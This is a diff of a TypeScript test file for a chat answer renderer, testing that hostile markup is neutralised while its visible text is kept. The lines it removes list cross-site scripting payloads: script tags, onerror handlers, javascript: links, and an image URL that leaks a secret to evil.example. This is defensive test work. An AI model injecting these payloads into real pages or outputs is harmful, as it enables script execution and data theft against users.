@@ -1,5 +1,6 @@
 import { strict as assert } from 'node:assert';
 import { installDom, type FakeWebview } from './dom';
+import { hostile, markupOf } from './render/documents';
 
 describe('rendering an answer (jsdom, the renderer the chat uses)', () => {
   let env: FakeWebview;
@@ -39,20 +40,13 @@ describe('rendering an answer (jsdom, the renderer the chat uses)', () => {
     assert.equal(div.querySelector('pre code')?.textContent, 'print(1)\nprint(\n');
   });
 
-  const hostile: Array<[string, string, RegExp]> = [
-    ['a script tag', 'hi <script>alert(1)</script>', /<script/i],
-    ['an event handler', '<b onmouseover="alert(1)">x</b>', /onmouseover/i],
-    ['a javascript: link', '[click](javascript:alert(1))', /javascript:/i],
-    ['a data: link', '[click](data:text/html,<script>alert(1)</script>)', /data:/i],
-    ['a markdown image to a remote host (a placeholder, never an <img>)', '![x](https://evil.example/leak?secret=1)', /<img|src=/i],
-    ['a raw img tag', '<img src=x onerror=alert(1)>', /<img|onerror/i],
-    ['an iframe', '<iframe src="https://evil.example"></iframe>', /<iframe/i],
-    ['an svg with script', '<svg><script>alert(1)</script></svg>', /<svg|<script/i],
-    ['a style tag', '<style>body{background:url(https://evil.example)}</style>', /<style|evil/i],
-    ['a form', '<form action="https://evil.example"><input name=a></form>', /<form|<input/i],
-  ];
-  for (const [name, text, forbidden] of hostile) {
-    it(`neutralises ${name}`, () => assert.doesNotMatch(html(text), forbidden));
+  for (const [name, text, forbidden, visible] of hostile) {
+    it(`neutralises ${name}, keeping its text`, () => {
+      const div = document.createElement('div');
+      div.append(render(text));
+      assert.doesNotMatch(markupOf(div), forbidden);
+      if (visible !== undefined) assert.equal(div.textContent?.trim(), visible);
+    });
   }
 
   it('shows a remote image as a placeholder with its address as text and a button to open it', () => {
